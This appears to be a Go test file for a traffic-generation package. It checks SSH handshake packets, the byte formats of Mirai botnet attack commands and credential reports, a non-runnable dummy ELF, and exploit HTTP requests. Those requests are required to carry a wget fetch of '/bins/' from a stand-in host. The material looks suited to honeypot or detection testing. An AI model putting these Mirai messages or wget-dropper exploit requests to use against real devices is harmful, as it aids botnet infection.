package message

import (
	"bytes"
	"net/netip"
	"strconv"
	"strings"
	"testing"
	"time"
)

// Every packet of SSH before there are keys is a multiple of eight bytes, with at
// least four of padding, and its length says where it ends (RFC 4253 §6).
func TestSSHPackets(t *testing.T) {
	for name, b := range map[string][]byte{
		"lists": SSHKexInit(chance()), "exchange": SSHExchange(chance()), "exchanged": SSHExchanged(chance()), "keys": SSHNewKeys(chance()),
	} {
		packets := 0
		for ; len(b) > 0; packets++ {
			size := 4 + int(be.Uint32(b))
			if size%8 != 0 || size > len(b) || b[4] < 4 {
				t.Fatalf("%s: %d bytes of %d, %d of padding", name, size, len(b), b[4])
			}
			b = b[size:]
		}
		if want := 1 + strings.Count(name, "exchanged"); packets != want {
			t.Errorf("%s: %d packets, want %d", name, packets, want)
		}
	}
}

func TestMirai(t *testing.T) {
	target := netip.MustParseAddr("203.0.113.9")
	want := []byte{0, 20, 0, 0, 0, 20, 0, 1, 203, 0, 113, 9, 32, 1, 7, 4, '7', '7', '7', '7'}
	if got := MiraiCommand(20*time.Second, 0, target, 7777); !bytes.Equal(got, want) {
		t.Errorf("command: % x, want % x", got, want)
	}
	want = []byte{0, 203, 0, 113, 9, 0, 23, 1, 'u', 2, 'p', 'w'}
	if got := MiraiReport(netip.AddrPortFrom(target, 23), "u", "pw"); !bytes.Equal(got, want) {
		t.Errorf("report: % x, want % x", got, want)
	}
	if got := MiraiID("a.mips"); got[0] != 6 || len(got) != 7 {
		t.Errorf("id: % x", got)
	}
}

// A program is a head and nothing that could run.
func TestELF(t *testing.T) {
	b := ELF(1000)
	if len(b) != 1000 || be.Uint16(b[18:]) != 8 || len(bytes.Trim(b[52:], "\x00")) != 0 || be.Uint32(b[24:]) != 0 {
		t.Errorf("% x", b[:60])
	}
}

// The length of an exploit's body is told right, and it fetches from where it is
// told to.
func TestExploits(t *testing.T) {
	from := netip.MustParseAddr("198.51.100.7")
	for _, e := range Exploits {
		head, body, _ := strings.Cut(string(e.Request(addr, from)), "\r\n\r\n")
		if !strings.Contains(head+body, "wget+http://198.51.100.7/bins/") || strings.Contains(head+body, "%!") {
			t.Errorf("%s: %s %s", e.Name, head, body)
		}
		if _, length, ok := strings.Cut(head, "Content-Length: "); ok != (body != "") || ok && length != strconv.Itoa(len(body)) {
			t.Errorf("%s: length %q, body of %d", e.Name, length, len(body))
		}
	}
}

func TestBasic(t *testing.T) {
	if got := Basic("Aladdin", "open sesame"); got != "Authorization: Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==\r\n" { // RFC 7617 §2
		t.Error(got)
	}
}
